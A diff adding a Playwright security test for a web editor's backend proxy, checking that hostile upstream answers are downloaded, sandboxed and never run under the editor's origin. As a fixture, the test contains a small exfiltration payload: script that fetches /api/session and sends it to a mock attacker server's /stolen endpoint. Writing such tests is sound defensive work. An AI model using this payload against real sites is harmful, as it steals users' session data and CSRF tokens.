@@ -1,8 +1,14 @@
 // Issue 2: credentials stay on the server. The browser sees only the same-origin proxy; the
 // reference backend's key must appear in no request, response, header, storage or page source.
 import type { Page } from '@playwright/test'
+import { spawn, type ChildProcess } from 'node:child_process'
+import { mkdtempSync, rmSync } from 'node:fs'
+import { createServer as createHttpServer, type Server } from 'node:http'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { expect, test } from './fixtures/test'
 import { findField } from './fixtures/demo'
+import { E2E_PORT } from './fixtures/env'
 
 /** Everything the page sent and received, as text, gathered until `done()` is awaited. */
 function recordTraffic(page: Page): { done(): Promise<string[]> } {
@@ -111,4 +117,130 @@ test('pages and API answers carry security headers', async ({ request }) => {
   expect(csp).toMatch(/default-src/)
   expect(csp).not.toMatch(/'unsafe-eval'/)
   expect(page.headers()['x-powered-by']).toBeUndefined()
+})
+
+// Issue 17: a backend that answers HTML (or script) must not get a page of its own under the
+// editor's origin, where it could read /api/session and its CSRF token. A hostile upstream serves
+// both; a server of our own proxies to it (BACKEND_URL) and Chromium opens what it answers.
+test.describe('a hostile backend answer', () => {
+  const SERVER_PORT = E2E_PORT + 50
+  const origin = `http://127.0.0.1:${SERVER_PORT}`
+  let upstream: Server
+  const stolen: string[] = []
+  let server: ChildProcess | null = null
+  let dataDir = ''
+
+  test.beforeAll(async () => {
+    upstream = createHttpServer((req, res) => {
+      if (req.url?.startsWith('/stolen')) {
+        stolen.push(req.url)
+        res.writeHead(204).end()
+        return
+      }
+      if (req.url?.startsWith('/evil.html')) {
+        res.writeHead(200, { 'Content-Type': 'text/html' })
+        res.end(
+          `<!doctype html><title>evil</title><script src="/api/backend/x.js"></script>` +
+            `<script>fetch('/api/session').then((r) => r.text()).then((t) =>` +
+            ` fetch('${upstreamOrigin()}/stolen?' + encodeURIComponent(t), {mode: 'no-cors'}))</script>`,
+        )
+        return
+      }
+      if (req.url?.startsWith('/x.js')) {
+        res.writeHead(200, { 'Content-Type': 'text/javascript' })
+        res.end(
+          `window.__ran = true; fetch('${upstreamOrigin()}/stolen?script', {mode: 'no-cors'})`,
+        )
+        return
+      }
+      res.writeHead(404, { 'Content-Type': 'application/json' }).end('{}')
+    })
+    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
+    dataDir = mkdtempSync(join(tmpdir(), 'e2e-hostile-'))
+    server = spawn(
+      join(process.cwd(), 'node_modules', '.bin', 'tsx'),
+      [join(process.cwd(), 'src', 'server', 'main.ts')],
+      {
+        cwd: dataDir,
+        env: {
+          ...process.env,
+          PORT: String(SERVER_PORT),
+          HOST: '127.0.0.1',
+          DATA_DIR: dataDir,
+          BACKEND: 'basker',
+          BACKEND_URL: upstreamOrigin(),
+          BACKEND_API_KEY: 'hostile-test-key-0123456789',
+          DATABASE_URL: '',
+        },
+        stdio: ['ignore', 'pipe', 'pipe'],
+      },
+    )
+    await new Promise<void>((resolve, reject) => {
+      server?.stdout?.on('data', (chunk: Buffer) => {
+        if (chunk.toString().includes('Editor running')) resolve()
+      })
+      server?.on('exit', (code) => reject(new Error(`server exited with ${code}`)))
+    })
+  })
+
+  test.afterAll(async () => {
+    server?.kill('SIGTERM')
+    await new Promise<void>((resolve) => upstream.close(() => resolve()))
+    rmSync(dataDir, { recursive: true, force: true })
+  })
+
+  function upstreamOrigin(): string {
+    const address = upstream.address()
+    return typeof address === 'object' && address ? `http://127.0.0.1:${address.port}` : ''
+  }
+
+  test('is downloaded, sandboxed and never run under the editor origin', async ({ page }) => {
+    const response = await page.request.get(`${origin}/api/backend/evil.html`)
+    expect(response.headers()['content-type']).toBe('application/octet-stream')
+    expect(response.headers()['content-disposition']).toMatch(/^attachment/)
+    expect(response.headers()['content-security-policy']).toMatch(/^sandbox/)
+
+    // Opened as a page: Chromium downloads it instead of rendering it.
+    const download = page.waitForEvent('download')
+    await page.goto(`${origin}/api/backend/evil.html`).catch(() => undefined)
+    expect((await download).suggestedFilename()).toBe('backend-answer')
+
+    // From a page of the editor's origin: as a frame it renders nothing that runs, and as a
+    // script it is refused (nosniff: not JavaScript).
+    await page.goto(`${origin}/api/config`)
+    const results = await page.evaluate(async () => {
+      const script = document.createElement('script')
+      script.src = '/api/backend/x.js'
+      const loaded = new Promise<string>((resolve) => {
+        script.onload = () => resolve('loaded')
+        script.onerror = () => resolve('refused')
+      })
+      document.body.append(script)
+      const frame = document.createElement('iframe')
+      frame.src = '/api/backend/evil.html'
+      const framed = new Promise<void>((resolve) => {
+        frame.onload = () => resolve()
+        setTimeout(resolve, 2000)
+      })
+      document.body.append(frame)
+      await framed
+      return {
+        script: await loaded,
+        ran: (window as { __ran?: boolean }).__ran ?? false,
+        frameTitle: (() => {
+          try {
+            return frame.contentDocument?.title ?? null
+          } catch {
+            return 'opaque'
+          }
+        })(),
+      }
+    })
+    expect(results.script).toBe('refused')
+    expect(results.ran).toBe(false)
+    expect(results.frameTitle).not.toBe('evil')
+    // The upstream's page never got to call home.
+    await page.request.get(`${origin}/api/config`)
+    expect(stolen).toEqual([])
+  })
 })
